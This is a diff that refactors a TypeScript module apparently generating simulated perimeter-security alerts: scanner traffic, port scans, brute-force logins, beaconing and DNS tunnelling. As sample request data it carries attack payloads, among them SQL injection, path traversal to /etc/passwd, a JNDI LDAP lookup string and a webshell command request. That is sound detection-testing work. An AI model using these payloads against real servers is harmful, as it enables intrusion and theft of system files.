@@ -1,19 +1,14 @@
 /** Daily attempts on web servers and firewalls from the internet, and unwanted outbound traffic. */
 import { dnsLookup, firewallVerdict, httpExchange, tlsSession } from '../events/network.ts';
 import { type WebRequest, webRequest } from '../events/web.ts';
-import type { Acted, AlertTrigger, Level } from './alert-trigger.ts';
+import { type Acted, type AlertTrigger, trigger, triggersOf } from './alert-trigger.ts';
 import { strangers } from './linux.ts';
 
 const officeAddress = ({ device, random }: Acted) => `10.${device.site.network}.20.${random.int(40, 75)}`;
 
-const asks = (rule: string, level: Level, weight: number, request: (scene: Acted) => Omit<WebRequest, 'from'>): AlertTrigger => ({
-  rule: `web/${rule}`,
-  level,
-  weight,
-  roles: ['webServer'],
-  hours: 'any',
-  make: (scene) => webRequest(scene, { from: scene.random.pick(strangers), ...request(scene) }),
-});
+const asks = triggersOf<Omit<WebRequest, 'from'>>('web', (scene, request) =>
+  webRequest(scene, { from: scene.random.pick(strangers), ...request(scene) }),
+)({ roles: ['webServer'], hours: 'any' });
 
 const scanners = [
   'Mozilla/5.0 zgrab/0.x',
@@ -49,68 +44,44 @@ const series = (
 ) => Array.from({ length: count }, (_, index) => make({ ...scene, at: scene.at + index * everyMs }, index));
 
 export const perimeterTriggers: readonly AlertTrigger[] = [
-  {
-    rule: 'network/outdated-tls',
-    level: 'informational',
-    weight: 30,
-    roles: ['resolver'],
-    make: (scene) =>
-      tlsSession(scene, {
-        from: officeAddress(scene),
-        to: `192.0.2.${scene.random.int(20, 60)}`,
-        name: scene.random.pick(oldServices),
-        version: scene.random.pick(['1.0', '1.1']),
-      }),
-  },
+  trigger('network/outdated-tls', 'informational', 30, { roles: ['resolver'] }, (scene) =>
+    tlsSession(scene, {
+      from: officeAddress(scene),
+      to: `192.0.2.${scene.random.int(20, 60)}`,
+      name: scene.random.pick(oldServices),
+      version: scene.random.pick(['1.0', '1.1']),
+    }),
+  ),
   asks('scanner-user-agent', 'low', 26, ({ random }) => ({
     url: random.pick(guessedPaths),
     status: 301,
     agent: random.pick(scanners),
   })),
-  {
-    rule: 'web/forced-browsing',
-    level: 'low',
-    weight: 1,
-    roles: ['webServer'],
-    hours: 'any',
-    make: (scene) => {
-      const from = scene.random.pick(strangers);
-      return series(scene, 32, 2_500, (each, index) =>
-        webRequest(each, { from, url: `${guessedPaths[index % guessedPaths.length]}/${index}`, status: 404, bytes: 153 }),
-      );
-    },
-  },
-  {
-    rule: 'network/port-scan',
-    level: 'low',
-    weight: 3,
-    roles: ['firewall'],
-    hours: 'any',
-    make: (scene) => {
-      const from = scene.random.pick(strangers);
-      return series(scene, 16, 3_000, (each, index) =>
-        firewallVerdict(each, { action: 'deny', from, to: scene.device.site.publicAddress, port: 20 + index * 7 }),
-      );
-    },
-  },
-  {
-    rule: 'network/scripting-user-agent',
-    level: 'low',
-    weight: 20,
-    roles: ['resolver'],
-    make: (scene) =>
-      httpExchange(scene, {
-        from: officeAddress(scene),
-        to: `203.0.113.${scene.random.int(200, 220)}`,
-        host: 'updates.vendor.example',
-        path: '/feed.json',
-        agent: scene.random.pick([
-          'python-requests/2.32.3',
-          'Go-http-client/1.1',
-          'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.20348.2700',
-        ]),
-      }),
-  },
+  trigger('web/forced-browsing', 'low', 1, { roles: ['webServer'], hours: 'any' }, (scene) => {
+    const from = scene.random.pick(strangers);
+    return series(scene, 32, 2_500, (each, index) =>
+      webRequest(each, { from, url: `${guessedPaths[index % guessedPaths.length]}/${index}`, status: 404, bytes: 153 }),
+    );
+  }),
+  trigger('network/port-scan', 'low', 3, { roles: ['firewall'], hours: 'any' }, (scene) => {
+    const from = scene.random.pick(strangers);
+    return series(scene, 16, 3_000, (each, index) =>
+      firewallVerdict(each, { action: 'deny', from, to: scene.device.site.publicAddress, port: 20 + index * 7 }),
+    );
+  }),
+  trigger('network/scripting-user-agent', 'low', 20, { roles: ['resolver'] }, (scene) =>
+    httpExchange(scene, {
+      from: officeAddress(scene),
+      to: `203.0.113.${scene.random.int(200, 220)}`,
+      host: 'updates.vendor.example',
+      path: '/feed.json',
+      agent: scene.random.pick([
+        'python-requests/2.32.3',
+        'Go-http-client/1.1',
+        'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.20348.2700',
+      ]),
+    }),
+  ),
   asks('sql-injection', 'medium', 12, ({ random }) => ({
     url: `/search?q=${random.pick(['seal', 'pump', 'kit'])}%27%20UNION%20SELECT%20null,version()--`,
     status: random.pick([400, 403, 500]),
@@ -119,74 +90,43 @@ export const perimeterTriggers: readonly AlertTrigger[] = [
     url: random.pick(['/static/../../../../etc/passwd', '/download?file=../../../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd']),
     status: 400,
   })),
-  {
-    rule: 'web/login-brute-force',
-    level: 'medium',
-    weight: 0.8,
-    roles: ['webServer'],
-    hours: 'night',
-    make: (scene) => {
-      const from = scene.random.pick(strangers);
-      return series(scene, 42, 5_000, (each) =>
-        webRequest(each, { from, method: 'POST', url: '/login', status: 401, bytes: 310 }),
-      );
-    },
-  },
-  {
-    rule: 'network/file-sharing-to-internet',
-    level: 'medium',
-    weight: 8,
-    roles: ['firewall'],
-    make: (scene) =>
-      firewallVerdict(scene, {
-        action: 'accept',
-        from: officeAddress(scene),
-        to: `203.0.113.${scene.random.int(200, 240)}`,
-        port: scene.random.pick([445, 3389]),
-      }),
-  },
-  {
-    rule: 'network/network-sweep',
-    level: 'medium',
-    weight: 2,
-    roles: ['firewall'],
-    make: (scene) => {
-      const from = officeAddress(scene);
-      return series(scene, 14, 4_000, (each, index) =>
-        firewallVerdict(each, { action: 'deny', from, to: `10.${scene.device.site.network}.1.${10 + index}`, port: 9100 }),
-      );
-    },
-  },
-  {
-    rule: 'network/program-from-bare-address',
-    level: 'medium',
-    weight: 7,
-    roles: ['resolver'],
-    make: (scene) => {
-      const to = `198.51.100.${scene.random.int(60, 99)}`;
-      return httpExchange(scene, {
-        from: officeAddress(scene),
-        to,
-        host: to,
-        path: `/firmware/printer-${scene.random.int(1, 9)}.bin`,
-      });
-    },
-  },
-  {
-    rule: 'network/self-signed-on-odd-port',
-    level: 'medium',
-    weight: 5,
-    roles: ['resolver'],
-    make: (scene) =>
-      tlsSession(scene, {
-        from: officeAddress(scene),
-        to: `192.0.2.${scene.random.int(70, 90)}`,
-        name: 'localhost',
-        port: 8443,
-        subject: 'CN=localhost',
-        issuer: 'CN=localhost',
-      }),
-  },
+  trigger('web/login-brute-force', 'medium', 0.8, { roles: ['webServer'], hours: 'night' }, (scene) => {
+    const from = scene.random.pick(strangers);
+    return series(scene, 42, 5_000, (each) => webRequest(each, { from, method: 'POST', url: '/login', status: 401, bytes: 310 }));
+  }),
+  trigger('network/file-sharing-to-internet', 'medium', 8, { roles: ['firewall'] }, (scene) =>
+    firewallVerdict(scene, {
+      action: 'accept',
+      from: officeAddress(scene),
+      to: `203.0.113.${scene.random.int(200, 240)}`,
+      port: scene.random.pick([445, 3389]),
+    }),
+  ),
+  trigger('network/network-sweep', 'medium', 2, { roles: ['firewall'] }, (scene) => {
+    const from = officeAddress(scene);
+    return series(scene, 14, 4_000, (each, index) =>
+      firewallVerdict(each, { action: 'deny', from, to: `10.${scene.device.site.network}.1.${10 + index}`, port: 9100 }),
+    );
+  }),
+  trigger('network/program-from-bare-address', 'medium', 7, { roles: ['resolver'] }, (scene) => {
+    const to = `198.51.100.${scene.random.int(60, 99)}`;
+    return httpExchange(scene, {
+      from: officeAddress(scene),
+      to,
+      host: to,
+      path: `/firmware/printer-${scene.random.int(1, 9)}.bin`,
+    });
+  }),
+  trigger('network/self-signed-on-odd-port', 'medium', 5, { roles: ['resolver'] }, (scene) =>
+    tlsSession(scene, {
+      from: officeAddress(scene),
+      to: `192.0.2.${scene.random.int(70, 90)}`,
+      name: 'localhost',
+      port: 8443,
+      subject: 'CN=localhost',
+      issuer: 'CN=localhost',
+    }),
+  ),
   asks('jndi-lookup', 'high', 8, ({ random }) => ({
     url: `/?id=$%7Bjndi:ldap://203.0.113.${random.int(30, 60)}:1389/a%7D`,
     status: 200,
@@ -198,51 +138,33 @@ export const perimeterTriggers: readonly AlertTrigger[] = [
   })),
   asks('webshell-request', 'high', 3, () => ({ url: '/uploads/2026/logo.php?cmd=whoami', status: 200, bytes: 9 })),
   asks('path-traversal-answered', 'high', 3, () => ({ url: '/export?name=../../../../etc/passwd', status: 200, bytes: 1_842 })),
-  {
-    rule: 'network/remote-service-open-to-internet',
-    level: 'high',
-    weight: 6,
-    roles: ['firewall'],
-    hours: 'any',
-    make: (scene) =>
-      firewallVerdict(scene, {
-        action: 'accept',
-        from: scene.random.pick(strangers),
-        to: `10.${scene.device.site.network}.1.${scene.random.int(12, 20)}`,
-        port: scene.random.pick([3389, 5432, 445]),
+  trigger('network/remote-service-open-to-internet', 'high', 6, { roles: ['firewall'], hours: 'any' }, (scene) =>
+    firewallVerdict(scene, {
+      action: 'accept',
+      from: scene.random.pick(strangers),
+      to: `10.${scene.device.site.network}.1.${scene.random.int(12, 20)}`,
+      port: scene.random.pick([3389, 5432, 445]),
+    }),
+  ),
+  trigger('network/beacon-user-agent-or-path', 'high', 1.5, { roles: ['resolver'] }, (scene) =>
+    httpExchange(scene, {
+      from: officeAddress(scene),
+      to: `203.0.113.${scene.random.int(60, 70)}`,
+      host: 'cdn-sync.example',
+      method: 'POST',
+      path: '/submit.php',
+      query: `id=${scene.random.int(100_000, 999_999)}`,
+    }),
+  ),
+  trigger('network/dns-tunnelling', 'high', 2, { roles: ['resolver'], hours: 'night' }, (scene) => {
+    const client = officeAddress(scene);
+    return series(scene, 54, 4_000, (each) =>
+      dnsLookup(each, {
+        client,
+        name: `${scene.random.hex(48)}.t.telemetry-sync.example`,
+        type: 'TXT',
+        answer: scene.random.hex(32),
       }),
-  },
-  {
-    rule: 'network/beacon-user-agent-or-path',
-    level: 'high',
-    weight: 1.5,
-    roles: ['resolver'],
-    make: (scene) =>
-      httpExchange(scene, {
-        from: officeAddress(scene),
-        to: `203.0.113.${scene.random.int(60, 70)}`,
-        host: 'cdn-sync.example',
-        method: 'POST',
-        path: '/submit.php',
-        query: `id=${scene.random.int(100_000, 999_999)}`,
-      }),
-  },
-  {
-    rule: 'network/dns-tunnelling',
-    level: 'high',
-    weight: 2,
-    roles: ['resolver'],
-    hours: 'night',
-    make: (scene) => {
-      const client = officeAddress(scene);
-      return series(scene, 54, 4_000, (each) =>
-        dnsLookup(each, {
-          client,
-          name: `${scene.random.hex(48)}.t.telemetry-sync.example`,
-          type: 'TXT',
-          answer: scene.random.hex(32),
-        }),
-      );
-    },
-  },
+    );
+  }),
 ];
